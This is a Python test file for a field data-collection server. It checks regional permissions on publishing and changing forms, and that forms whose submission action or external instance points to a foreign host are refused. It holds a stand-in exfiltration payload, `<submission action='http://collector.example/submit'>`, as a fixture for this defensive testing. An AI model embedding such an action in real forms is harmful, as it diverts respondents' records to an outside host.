"""Who may change a form (access.require_form_change) and forms that point to another host (400.77).

The attack of issue 19: a coordinator scoped to one village published a new version of a project-wide
form through Central's API, with `<submission action="http://…"/>`: collectors of other counties got it
and Collect would have sent their finalized records to that host.
"""
from __future__ import annotations

import io
import re
from typing import Any

from sqlalchemy import select

from app.models import Form, FormAssignment, FormVersion
from tests.app.web_helpers import Browser

FORMS = "/v1/projects/1/forms"
XML = "application/xml"


def xform(form_id: str = "visit", version: str = "1", submission: str = "") -> bytes:
    return (
        '<h:html xmlns="http://www.w3.org/2002/xforms" xmlns:h="http://www.w3.org/1999/xhtml" '
        'xmlns:jr="http://openrosa.org/javarosa" xmlns:orx="http://openrosa.org/xforms"><h:head><h:title>Visit'
        f'</h:title><model><instance><data id="{form_id}" version="{version}"><note/><meta><instanceID/></meta>'
        f'</data></instance>{submission}<bind nodeset="/data/note" type="string"/><bind '
        'nodeset="/data/meta/instanceID" type="string" readonly="true()" jr:preload="uid"/></model></h:head>'
        '<h:body><input ref="/data/note"><label>Note</label></input></h:body></h:html>').encode()


FOREIGN = '<submission action="http://collector.example/submit" method="post"/>'


def versions(rt: Any, form_id: str) -> list[str]:
    with rt.db.session() as s:
        return list(s.scalars(select(FormVersion.version).join(Form, Form.id == FormVersion.form_id)
                              .where(Form.xml_form_id == form_id).order_by(FormVersion.id)))


def test_village_coordinator_may_not_publish_a_project_wide_form(login: Any, rt: Any, make_user: Any) -> None:
    admin = login("boss", "admin")
    assert admin.post(FORMS, data=xform(), content_type=XML, query_string={"publish": "true"}).status_code == 200
    make_user("tashi", "collector", ["540121"])  # a collector of another county gets every form
    village = login("pema", "coordinator", ["540102002001"])
    # the request: a new version with a foreign submission action
    resp = village.post(FORMS, data=xform(version="2", submission=FOREIGN), content_type=XML,
                        query_string={"publish": "true"})
    assert resp.status_code in (400, 403), resp.get_data(as_text=True)
    # the same without the action: refused for the reach
    resp = village.post(FORMS, data=xform(version="2"), content_type=XML, query_string={"publish": "true"})
    assert resp.status_code == 403 and resp.get_json()["code"] == 403.77, resp.get_data(as_text=True)
    assert "whole province" in resp.get_json()["message"]
    assert village.post(f"{FORMS}/visit/draft", data=xform(version="3"), content_type=XML).status_code == 403
    assert village.patch(f"{FORMS}/visit", json={"state": "closed"}).status_code == 403
    assert versions(rt, "visit") == ["1"]
    # a new form is project-wide as well
    assert village.post(FORMS, data=xform("mine"), content_type=XML,
                        query_string={"publish": "true"}).status_code == 403
    # a province's coordinator may
    province = login("dorje", "coordinator", ["54"])
    assert province.post(FORMS, data=xform(version="2"), content_type=XML,
                         query_string={"publish": "true"}).status_code == 200
    assert versions(rt, "visit") == ["1", "2"]


def test_a_foreign_submission_action_is_refused_even_for_an_admin(login: Any, rt: Any) -> None:
    admin = login("boss", "admin")
    resp = admin.post(FORMS, data=xform(submission=FOREIGN), content_type=XML, query_string={"publish": "true"})
    assert resp.status_code == 400, resp.get_data(as_text=True)
    body = resp.get_json()
    assert body["code"] == 400.77 and "http://collector.example/submit" in body["message"]
    assert "submission_url" in body["message"]
    assert versions(rt, "visit") == []
    # as a draft, and an external instance, too
    assert admin.post(FORMS, data=xform(), content_type=XML, query_string={"publish": "true"}).status_code == 200
    outside = xform(version="2", submission='<instance id="l" src="https://data.example/list.csv"/>')
    draft = admin.post(f"{FORMS}/visit/draft", data=outside, content_type=XML)
    assert draft.status_code == 400 and "https://data.example/list.csv" in draft.get_json()["message"]
    # an encrypted form's <submission> without an action is fine
    key = '<submission base64RsaPublicKey="MIIBIjANBgkq" method="post"/>'
    assert admin.post(f"{FORMS}/visit/draft", data=xform(version="3", submission=key),
                      content_type=XML).status_code == 200


def test_web_upload_names_the_foreign_host(app: Any, make_user: Any) -> None:
    make_user("boss", "admin")
    b = Browser(app)
    assert b.login("boss").status_code == 302
    b.get("/forms")
    resp = b.client.post("/forms/upload", data={"csrf_token": b.csrf, "file": (
        io.BytesIO(xform(submission=FOREIGN)), "visit.xml")}, content_type="multipart/form-data")
    page = resp.get_data(as_text=True)
    assert resp.status_code == 400 and "http://collector.example/submit" in page
    assert "submission_url" in page and "本服务器" in page  # in the user's language (Chinese by default)


def test_a_county_coordinator_changes_a_form_that_reaches_only_the_county(login: Any, rt: Any,
                                                                          make_user: Any) -> None:
    admin = login("boss", "admin")
    assert admin.post(FORMS, data=xform(), content_type=XML, query_string={"publish": "true"}).status_code == 200
    assert admin.post(FORMS, data=xform("other"), content_type=XML,
                      query_string={"publish": "true"}).status_code == 200
    own = make_user("tashi", "collector", ["540102002001"])
    far = make_user("lhamo", "collector", ["540121"])
    with rt.db.write() as s:
        visit = s.scalar(select(Form).where(Form.xml_form_id == "visit"))
        other = s.scalar(select(Form).where(Form.xml_form_id == "other"))
        assert visit is not None and other is not None
        s.add_all([FormAssignment(user_id=own.id, form_id=visit.id), FormAssignment(user_id=far.id, form_id=other.id)])
    county = login("pema", "coordinator", ["540102"])
    assert county.patch(f"{FORMS}/visit", json={"state": "closing"}).status_code == 200  # reaches only 540102
    refused = county.patch(f"{FORMS}/other", json={"state": "closing"})
    assert refused.status_code == 403 and refused.get_json()["code"] == 403.78
    assert refused.get_json()["details"]["regions"] == ["540121"]
    assert county.post(FORMS, data=xform("third"), content_type=XML,
                       query_string={"publish": "true"}).status_code == 403  # a new form reaches everyone


def test_a_county_coordinator_is_refused_publishing_on_the_website(app: Any, make_user: Any, rt: Any) -> None:
    """The website's upload → preview → publish: the preview shows the form, publishing it is refused with the
    reason in the user's language (a new form reaches every collector)."""
    make_user("pema", "coordinator", ["540102"])
    b = Browser(app)
    assert b.login("pema").status_code == 302
    b.get("/forms")
    preview = b.client.post("/forms/upload", data={"csrf_token": b.csrf, "file": (io.BytesIO(xform()), "visit.xml")},
                            content_type="multipart/form-data")
    page = preview.get_data(as_text=True)
    assert preview.status_code == 200, page
    fields = dict(re.findall(r'<input type="hidden" name="(key|sig|filename)" value="([^"]*)"', page))
    assert set(fields) == {"key", "sig", "filename"}, fields
    resp = b.post("/forms/publish", fields)
    text = resp.get_data(as_text=True)
    assert resp.status_code == 403 and "全省" in text, text[-800:]
    assert versions(rt, "visit") == []
